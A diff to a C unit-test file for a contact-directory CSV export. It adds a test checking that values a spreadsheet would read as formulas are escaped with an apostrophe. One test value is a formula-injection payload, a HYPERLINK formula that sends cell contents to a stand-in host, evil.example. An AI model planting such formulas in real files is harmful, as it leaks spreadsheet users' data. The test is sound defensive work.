@@ -259,13 +259,31 @@ test_csv (void **state)
                                       ",,,fr,alternate,\r\n"));
   assert_non_null (strstr (csv, "\r\nKZ,Aigerim Nurlanova,a.n@mfa.kz.example,Head,"
                                 "\"Ministry of Foreign Affairs, Department; \"\"International\"\""
-                                " Security\r\n2nd floor\",+7 7172 72 05 18,\"ru, kk, en\","
+                                " Security\r\n2nd floor\",'+7 7172 72 05 18,\"ru, kk, en\","
                                 "focal-point,border-control\r\n"));
   assert_true (g_str_has_suffix (csv, "UNODC,Jan Doe,j.doe@unodc.example,Officer,,,en,"
                                       "technical,\r\n"));
   assert_null (strstr (csv, "Withdrawn"));
   assert_null (strstr (csv, "Bouncing"));
   assert_null (strstr (csv, "Bakyt"));
+}
+
+/* A value that a spreadsheet would take for a formula is written after an
+ * apostrophe (ctcgw(8), CSV AND SPREADSHEETS); the register keeps it as sent. */
+static void
+test_csv_formulas (void **state)
+{
+  Fixture *f = *state;
+  fixture_exec (f->db, "UPDATE contacts SET title = '=HYPERLINK(\"http://evil.example/?x=\"&A1,"
+                       "\"Click\")', office = '@SUM(A1:A9)', phone = '-2+3'"
+                       " WHERE reference = 'CTC-CP-2026-0003'");
+  g_autoptr (GPtrArray) dir = distribute_directory (f->db, NULL);
+  g_autofree char *csv = distribute_csv (dir);
+  assert_true (g_str_has_suffix (csv, "UNODC,Jan Doe,j.doe@unodc.example,"
+                                      "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,"
+                                      "\"\"Click\"\")\",'@SUM(A1:A9),'-2+3,en,technical,\r\n"));
+  ContactPoint *jan = dir->pdata[dir->len - 1];
+  assert_string_equal (jan->title, "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")");
 }
 
 /* Columns that a line takes on a terminal. */
@@ -493,6 +511,7 @@ main (void)
     cmocka_unit_test (test_empty_directory),
     cmocka_unit_test_setup_teardown (test_directory, setup, fixture_gateway_teardown),
     cmocka_unit_test_setup_teardown (test_csv, setup, fixture_gateway_teardown),
+    cmocka_unit_test_setup_teardown (test_csv_formulas, setup, fixture_gateway_teardown),
     cmocka_unit_test_setup_teardown (test_text_table, setup, fixture_gateway_teardown),
     cmocka_unit_test_setup_teardown (test_vcard_file, setup, fixture_gateway_teardown),
     cmocka_unit_test_setup_teardown (test_distribute_all, setup, fixture_gateway_teardown),
